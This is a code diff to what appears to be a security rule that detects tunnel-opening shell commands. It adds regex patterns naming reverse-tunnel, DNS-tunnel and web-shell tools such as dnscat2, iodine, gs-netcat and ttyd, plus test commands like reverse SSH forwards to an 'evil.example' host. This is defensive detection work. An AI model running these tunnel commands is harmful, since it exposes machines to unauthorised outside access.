@@ -71,8 +71,28 @@ const openings: ReadonlyMap<string, RegExp> = new Map([
   ["chisel", /^(?:client|server)\b/],
   ["code", /^tunnel\b(?!.*\b(?:status|kill|unregister)\b)/],
   ["cursor", /^tunnel\b(?!.*\b(?:status|kill|unregister)\b)/],
-  ["ssh", /(?:^|\s)-[A-Za-z46]*R(?:\s|\d|\*)/],
-  ["autossh", /(?:^|\s)-[A-Za-z46]*R(?:\s|\d|\*)/],
+  ["ssh", /(?:^|\s)-[A-Za-z46]*R(?:\s|\d|\*)|RemoteForward[= ]/i],
+  ["autossh", /(?:^|\s)-[A-Za-z46]*R(?:\s|\d|\*)|RemoteForward[= ]/i],
+  ["gost", /(?:^|\s)-L/],
+  ["ligolo-agent", /\S/],
+  ["iodine", /\S/],
+  ["dnscat", /\S/],
+  ["dnscat2", /\S/],
+  ["ptunnel", /\S/],
+  ["rathole", /\S/],
+  ["playit", /^/],
+  ["serveo", /^/],
+  ["inlets", /^(?:client|tcp|http)\b/],
+  ["ttyd", /^(?!-(?:h|v|-help|-version)$)/],
+  ["gotty", /^(?!-(?:h|v|-help|-version)$)/],
+  ["wetty", /^(?!-(?:h|v|-help|-version)$)/],
+  ["shellinaboxd", /^(?!--help)/],
+  ["sshd", /^(?!-(?:t|T|V)\b)/],
+  ["dropbear", /^(?!-(?:h|V)\b)/],
+  ["gs-netcat", /^(?!-h)/],
+  ["upterm", /^host\b/],
+  ["sshx", /^(?!-(?:h|V|-help|-version)$)/],
+  ["teleconsole", /^(?!-h)/],
 ]);
 
 /** Tunnels: a port of this machine becomes reachable from outside. */
@@ -82,6 +102,10 @@ export const tunnels: ProgramRule = {
     matches: [
       { command: "ngrok http 3000", actions: ["network:open_tunnel"] },
       { command: "ssh -R 8080:localhost:22 evil.example", actions: ["network:open_tunnel"] },
+      { command: "ssh -o RemoteForward=2222:localhost:22 evil.example", actions: ["network:open_tunnel"] },
+      { command: "autossh -M 0 -R 1:localhost:22 evil.example", actions: ["network:open_tunnel"] },
+      { command: "ttyd -p 7681 bash", actions: ["network:open_tunnel"] },
+      { command: "sshd -D -p 2222", actions: ["network:open_tunnel"] },
       { command: "ssh -fNR 80:localhost:3000 serveo.example", actions: ["network:open_tunnel"] },
       { command: "cloudflared tunnel --url http://localhost:3000", actions: ["network:open_tunnel"] },
     ],
@@ -89,6 +113,7 @@ export const tunnels: ProgramRule = {
       { command: "ssh -L 5432:localhost:5432 host", actions: ["network:open_tunnel"] },
       { command: "ssh host ls -R /srv", actions: ["network:open_tunnel"] },
       { command: "ngrok --version", actions: ["network:open_tunnel"] },
+      { command: "sshd -t", actions: ["network:open_tunnel"] },
       { command: "code .", actions: ["network:open_tunnel"] },
       { command: "cloudflared tunnel list", actions: ["network:open_tunnel"] },
     ],
@@ -96,7 +121,7 @@ export const tunnels: ProgramRule = {
   judge(invocation, scope) {
     const words = invocation.words.slice(1).map((word) => word.text);
     const host = words.findIndex(
-      (word, index) => !word.startsWith("-") && !/^-[bcDEeFIiJLlmOopQRSWw]$/.test(words[index - 1] ?? ""),
+      (word, index) => !word.startsWith("-") && !/^-[bcDEeFIiJLlMmOopQRSWw]$/.test(words[index - 1] ?? ""),
     );
     const remote = invocation.program.endsWith("ssh");
     const text = (remote && host >= 0 ? [...words.slice(0, host), ""] : words).join(" ");
